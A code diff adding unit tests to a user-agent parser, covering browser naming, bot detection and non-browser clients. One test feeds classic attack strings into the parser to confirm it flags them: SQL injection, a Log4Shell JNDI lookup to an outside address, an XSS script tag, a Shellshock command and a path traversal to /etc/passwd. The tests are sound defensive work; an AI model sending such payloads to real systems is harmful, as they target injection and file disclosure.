@@ -50,10 +50,78 @@ describe('user agent parsing', () => {
     });
   });
 
+  it('names families people know, never a parser-internal token', () => {
+    const name = (ua: string) => {
+      const i = parseUserAgent(ua);
+      return `${i.browser} / ${i.os} / ${i.device_type}`;
+    };
+    expect(name('Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148')).toBe(
+      'Safari WebView / iOS / mobile',
+    );
+    expect(name('Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0')).toBe('Firefox / Linux / desktop');
+    expect(name('Mozilla/5.0 (Android 13; Tablet; rv:121.0) Gecko/121.0 Firefox/121.0')).toBe('Firefox / Android / tablet');
+    expect(
+      name(
+        'Mozilla/5.0 (Linux; Android 13; SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Safari/537.36',
+      ),
+    ).toBe('Samsung Internet / Android / tablet');
+    expect(
+      name(
+        'Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
+      ),
+    ).toBe('Safari / iPadOS / tablet');
+    expect(name('Mozilla/5.0 (X11; CrOS x86_64 15633.69.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36')).toBe(
+      'Chrome / ChromeOS / desktop',
+    );
+    expect(
+      name('Mozilla/5.0 (Windows NT 10.0; Win64; x64; Touch) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36'),
+    ).toBe('Chrome / Windows / desktop');
+    expect(
+      name(
+        'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/305.0.610339394 Mobile/15E148 Safari/604.1',
+      ),
+    ).toBe('Google App / iOS / mobile');
+    expect(
+      name(
+        'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 LinkedInApp/9.29.7826',
+      ),
+    ).toBe('LinkedIn / iOS / mobile');
+    expect(parseUserAgent('Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0').os_version).toBe('');
+  });
+
   it('flags bots, empty and absurdly long user agents', () => {
     expect(parseUserAgent('Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)').bot).toBe(true);
     expect(parseUserAgent('').bot).toBe(true);
     expect(parseUserAgent(`Mozilla/5.0 ${'x'.repeat(2000)}`).bot).toBe(true);
+    for (const probe of [
+      "' OR '1'='1",
+      '\u0024{jndi:ldap://203.0.113.5/a}',
+      'Mozilla/5.0 <script>alert(1)</script>',
+      '() { :; }; /bin/id',
+      '../../etc/passwd',
+    ]) {
+      expect(parseUserAgent(probe).bot, probe).toBe(true);
+    }
+  });
+
+  it("tells user agents that are no browser's at all", () => {
+    for (const ua of [
+      'curl/8.4.0',
+      'Go-http-client/1.1',
+      'Dart/3.2 (dart:io)',
+      'Mozilla/5.0',
+      'Mozilla/5.0 (compatible; Nikto/2.5.0)',
+      'MyApp/1.2 CFNetwork/1490 Darwin/23.2.0',
+    ]) {
+      expect(parseUserAgent(ua).notBrowser, ua).toBe(true);
+    }
+    for (const ua of [
+      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
+      'Mozilla/5.0 (Android 14; Mobile; rv:121.0) Gecko/121.0 Firefox/121.0',
+      'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)',
+    ]) {
+      expect(parseUserAgent(ua).notBrowser, ua).toBe(false);
+    }
   });
 
   it('keeps major.minor versions only', () => {
